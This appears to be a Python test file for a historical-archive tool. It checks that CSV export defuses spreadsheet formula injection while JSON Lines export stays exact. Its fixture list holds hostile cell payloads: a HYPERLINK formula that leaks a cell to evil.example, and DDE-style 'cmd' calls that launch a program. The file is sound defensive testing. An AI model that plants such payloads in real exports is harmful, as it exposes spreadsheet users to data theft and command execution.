"""Export: CSV cells a spreadsheet would run as a formula are made text; JSON Lines keep the archive exact."""
from __future__ import annotations

import csv
import io
import json

from retrieval.export import csv_cell, export
from retrieval.store import SqliteArchiveStore

from ..conftest import ingest_into

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")',
    "+1+cmd|' /C calc'!A0 Telegram from Mao",
    "-2+3 Letter from Stalin to Mao",
    "@SUM(1+1)*cmd|' /C calc'!A0 Memorandum",
]
PLAIN = "Record of Conversation between Mao Zedong and A.A. Gromyko"


async def _exported(db, fmt: str) -> str:
    out = io.StringIO(newline="")
    async with await SqliteArchiveStore.open(db) as store:
        await export(store, out, fmt)
    return out.getvalue()


async def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote_and_jsonl_is_exact(tmp_path):
    entries = [(f"September {day}, 1958", title, f"{title[0]}summary of document {day}")
               for day, title in enumerate([*FORMULAS, PLAIN], 1)]
    page = tmp_path / "hostile.txt"
    page.write_text("Results:\n\nDocuments\n\n" + "".join(f"{d}\n\n{t}\n\n{s}\n\n" for d, t, s in entries),
                    encoding="utf-8")
    db = tmp_path / "archive.db"
    await ingest_into(db, page)

    table = list(csv.DictReader(io.StringIO(await _exported(db, "csv"), newline="")))
    titles = {row["title"] for row in table}
    assert titles == {"'" + title for title in FORMULAS} | {PLAIN}
    for row in table:
        assert row["title"][0] not in "=+-@\t\r" and row["summary"][0] not in "=+-@\t\r"
        assert row["date"] == "1958-09-" + row["date"][-2:]  # only cells that start like a formula change
    rows = [json.loads(line) for line in (await _exported(db, "jsonl")).splitlines()]
    assert {r["title"] for r in rows} == {*FORMULAS, PLAIN}
    assert {r["summary"] for r in rows} == {s for _, _, s in entries}


def test_a_cell_starting_with_a_tab_or_carriage_return_is_made_text_too():
    assert [csv_cell(v) for v in ("\t=1+1", "\r=1+1", "a=1", "", 7, None)] == ["'\t=1+1", "'\r=1+1", "a=1", "", 7, None]
